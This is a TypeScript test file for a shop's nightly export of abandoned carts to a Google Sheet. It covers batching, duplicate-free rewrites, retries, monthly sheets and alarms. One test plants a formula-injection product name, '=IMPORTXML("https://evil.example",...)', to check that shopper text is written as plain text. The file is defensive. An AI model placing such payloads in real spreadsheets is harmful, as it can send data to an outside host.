// The nightly list in a Google Sheet, for owners who have Google: the carts of the shop's own day, written in few
// requests, the same row for the same cart however often it is written.

import { generateKeyPairSync } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '../../lambdas/cart-recovery/decisions/export.ts';
import { lettersAlarm } from '../../local/simulator/alarm-letters.ts';
import { type Cell, sheetsStandIn } from '../shared/google/sheets-stand-in.ts';
import { driveStandIn } from '../shared/rules/drive-stand-in.ts';
import { type CartRuntime, cartOf, checkoutOf, startCarts } from '../support/cart-runtime.ts';

const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
const serviceAccount = {
  client_email: 'carts@shop.example',
  private_key: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
};
const documents = {
  rulesDocument: '1RulesDocumentOfRidgebackCycles____for-tests',
  voiceDocument: '1VoiceDocumentOfRidgebackCycles____for-tests',
};
const ALARM = 'cr-nightly-export-errors';

let google: Awaited<ReturnType<typeof sheetsStandIn>>;
let drive: Awaited<ReturnType<typeof driveStandIn>>;
let shop: CartRuntime;
const now = () => shop.runtime.now();

// A shop in Singapore: its day begins at 16:00 UTC, its list is made at 18:00 UTC.
beforeAll(async () => {
  [google, drive] = await Promise.all([sheetsStandIn(), driveStandIn()]);
  const notes = {
    mimeType: 'application/vnd.google-apps.document',
    modifiedTime: '2026-06-01T00:00:00.000Z',
    text: '# Nothing of my own.\n',
  };
  for (const id of Object.values(documents)) drive.files.set(id, notes);
  shop = await startCarts({
    startAt: '2026-06-22T02:00:00.000Z',
    shop: { timeZone: 'Asia/Singapore' },
    cartRecovery: { drive: { ...documents, sheet: '1SheetOfRidgebackCycles____________for-tests' } },
  });
  for (const host of ['oauth2.googleapis.com', 'sheets.googleapis.com'])
    shop.runtime.outside.register(host, google.url);
  shop.runtime.outside.register('www.googleapis.com', drive.url);
  shop.runtime.services.secretsManager.set('cr/drive/sa', JSON.stringify(serviceAccount));
});
afterAll(async () => {
  await shop?.stop();
  await google?.stop();
  await drive?.stop();
});

const column = (name: (typeof EXPORT_COLUMNS)[number]) => EXPORT_COLUMNS.indexOf(name);
const cell = (row: readonly Cell[] | undefined, name: (typeof EXPORT_COLUMNS)[number]) => row?.[column(name)];
const rowsOf = (cartId: string, month = '2026-06') =>
  google.rows(month).filter((row) => cell(row, 'Cart') === cartId);
const writes = () => google.requests.filter((one) => one.includes('/values:batchUpdate')).length;
const post = (link: unknown) => fetch(String(link), { method: 'POST' });

describe('the nightly list in a Google Sheet', () => {
  it('holds the carts of the shop’s own day, found without reading the whole table', async () => {
    const noon = cartOf(now(), { name: undefined });
    await shop.tell(noon);
    await shop.advance('2026-06-22T15:59:00.000Z');
    const late = cartOf(now());
    await shop.tell(late);
    await shop.advance('2026-06-22T16:01:00.000Z');
    const tomorrow = cartOf(now());
    await shop.tell(tomorrow);
    await shop.advance('2026-06-22T17:59:00.000Z');
    expect(google.rows('2026-06')).toEqual([]);
    await shop.advance('2026-06-22T18:05:00.000Z');

    const [head, ...rows] = google.rows('2026-06');
    expect(head).toEqual([...EXPORT_COLUMNS]);
    expect(rows.map((row) => cell(row, 'Cart'))).toEqual([noon.cart_id, late.cart_id]);
    expect(rows.map((row) => cell(row, 'Day'))).toEqual(['2026-06-22', '2026-06-22']);
    const [row] = rowsOf(noon.cart_id);
    expect(cell(row, 'Items')).toBe('1 × Linen shirt; 2 × Candle');
    expect(cell(row, 'Total')).toBe(120);
    expect(cell(row, 'First reminder')).toBe('2026-06-22 12:00');
    expect(String(cell(row, 'Shopper'))).not.toContain(noon.email);
    expect(JSON.stringify(shop.runtime.deployment.ofType('AWS::IAM::Policy'))).not.toContain('dynamodb:Scan');
  });

  it('takes the place of the letter with the file', () => {
    expect(shop.ownerLetters().filter(({ subject }) => subject?.startsWith('Carts of'))).toEqual([]);
  });

  it('has links that act on a button only', async () => {
    const cart = cartOf(now());
    await shop.tell(cart);
    await shop.advance('2026-06-23T18:05:00.000Z');
    const link = cell(rowsOf(cart.cart_id)[0], 'Write off this cart');
    expect((await fetch(String(link))).status).toBe(200);
    expect(await shop.cart(cart.cart_id)).toMatchObject({ status: 'open' });
    expect((await post(link)).status).toBe(200);
    expect(await shop.cart(cart.cart_id)).toMatchObject({ closed_reason: 'written-off' });
  });

  it('written twice, or by two runs at once, is the same list', async () => {
    const before = google.rows('2026-06').length;
    await shop.runtime.invoke('cr-nightly-export', {});
    await Promise.all([1, 2].map(() => shop.runtime.invoke('cr-nightly-export', {})));
    expect(google.rows('2026-06')).toHaveLength(before);
  });

  it('has one row for a cart that was changed and bought days later, with what is true now', async () => {
    await shop.advance('2026-06-25T02:00:00.000Z');
    const cart = cartOf(now());
    await shop.tell(cart);
    await shop.advance('2026-06-25T18:05:00.000Z');
    expect(cell(rowsOf(cart.cart_id)[0], 'Status')).toBe('open');
    await shop.tell({ ...cart, event_id: 'again', occurred_at: now().toISOString(), total: '130.00' });
    await shop.advance('2026-06-26T06:00:00.000Z');
    await shop.tell(checkoutOf(cart, now()));
    await shop.advance('2026-06-26T18:05:00.000Z');
    const rows = rowsOf(cart.cart_id);
    expect(rows).toHaveLength(1);
    expect([cell(rows[0], 'Status'), cell(rows[0], 'Recovered')]).toEqual(['bought', 'yes']);
  });

  it('shows what a shopper or a store wrote as text, never as a formula', async () => {
    await shop.advance('2026-06-27T02:00:00.000Z');
    const name = '=IMPORTXML("https://evil.example","//a")';
    const cart = cartOf(now(), { items: [{ sku: 'X', name, quantity: 1, price: '120.00' }] });
    await shop.tell(cart);
    // The stand-in refuses every write that would run formulas.
    await shop.advance('2026-06-27T18:05:00.000Z');
    expect(String(cell(rowsOf(cart.cart_id)[0], 'Items'))).toContain(name);
  });

  it('of a thousand carts is written in a handful of requests', async () => {
    await shop.advance('2026-06-28T02:00:00.000Z');
    const cart = cartOf(now());
    await shop.tell(cart);
    const { waits: _, wakeup_at: __, ...row } = (await shop.cart(cart.cart_id)) ?? {};
    await shop.runtime.put(
      'cr-state',
      Array.from({ length: 1_000 }, (_one, index) => ({
        ...row,
        cart_id: `many-${index}`,
        status: 'closed',
        closed_reason: 'gave-up',
      })),
    );
    const before = writes();
    await shop.advance('2026-06-28T18:05:00.000Z');
    expect(google.rows('2026-06').filter((one) => String(one[1]).startsWith('many-'))).toHaveLength(1_000);
    expect(writes() - before).toBeLessThan(10);
  });

  it('is tried again when Google asks for patience, and nothing is lost or doubled', async () => {
    await shop.advance('2026-06-29T02:00:00.000Z');
    const cart = cartOf(now());
    await shop.tell(cart);
    await shop.advance('2026-06-29T17:55:00.000Z');
    google.failNext(429, 503, 429);
    await shop.advance('2026-06-29T18:05:00.000Z');
    expect(rowsOf(cart.cart_id)).toHaveLength(1);
  });

  it('is a sheet a month', async () => {
    await shop.advance('2026-07-01T02:00:00.000Z');
    const cart = cartOf(now());
    await shop.tell(cart);
    await shop.advance('2026-07-01T18:05:00.000Z');
    expect(google.rows('2026-07').map((row) => cell(row, 'Cart'))).toEqual(['Cart', cart.cart_id]);
  });

  it('that is no longer shared with us rings the alarm', async () => {
    await shop.advance('2026-07-02T02:00:00.000Z');
    await shop.tell(cartOf(now()));
    await shop.advance('2026-07-02T17:55:00.000Z');
    google.failNext(...Array.from({ length: 20 }, () => 403));
    await shop.advance('2026-07-02T18:10:00.000Z');
    expect(shop.ownerLetters().filter((mail) => lettersAlarm(mail) === ALARM)).toHaveLength(1);
  });

  it('needs no permission that its function does not have', () => {
    expect(shop.runtime.permissions().denied).toEqual([]);
  });
});
